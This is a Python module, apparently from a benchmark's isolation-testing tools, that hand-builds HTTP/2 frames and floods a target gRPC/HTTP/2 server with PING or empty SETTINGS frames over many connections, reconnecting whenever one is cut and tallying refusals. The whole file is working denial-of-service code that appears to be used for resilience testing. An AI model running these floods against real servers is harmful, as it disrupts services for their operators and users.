"""Attacks below gRPC: frames of HTTP/2, written by hand (RFC 9113)."""

import asyncio
import struct
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress

from licorne_tools.bench.isolation.attack import Act, Site

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADER = struct.Struct("!HBBBI")
SETTINGS, PING = 0x4, 0x6
PING_BYTES = 8
FRAMES = 5_000_000
FRAMES_AT_ONCE = 1000
CONNECTIONS = 5000
CHUNK = 65536


def frame(kind: int, content: bytes = b"") -> bytes:
    """A frame of the connection, without flags (§ 4.1)."""
    return HEADER.pack(len(content) >> 8, len(content) & 0xFF, kind, 0, 0) + content


@asynccontextmanager
async def ping(site: Site) -> AsyncIterator[Act]:
    """PING frames as fast as they are taken, on a new connection whenever one is cut."""
    yield lambda: flood(site, frame(PING, bytes(PING_BYTES)))


@asynccontextmanager
async def settings(site: Site) -> AsyncIterator[Act]:
    """Empty SETTINGS frames as fast as they are taken, on a new connection whenever one is cut."""
    yield lambda: flood(site, frame(SETTINGS))


async def flood(site: Site, one: bytes) -> None:
    """Send this frame; a connection that the server cuts counts as a refusal."""
    host, _, port = site.target.rpartition(":")
    most = site.part(FRAMES)
    for _ in range(site.part(CONNECTIONS)):
        if site.acts >= most:
            break
        reader, writer = await asyncio.open_connection(host, int(port))
        reading = asyncio.create_task(discard(reader))
        try:
            writer.write(PREFACE + frame(SETTINGS))
            while site.acts < most and not reading.done():
                writer.write(one * FRAMES_AT_ONCE)
                await writer.drain()
                site.acts += FRAMES_AT_ONCE
        except ConnectionError:
            pass
        finally:
            site.refused += reading.done()
            reading.cancel()
            writer.close()
            with suppress(ConnectionError, asyncio.CancelledError):
                await reading


async def discard(reader: asyncio.StreamReader) -> None:
    """Read whatever comes, until the server hangs up."""
    with suppress(ConnectionError):
        while await reader.read(CHUNK):
            pass
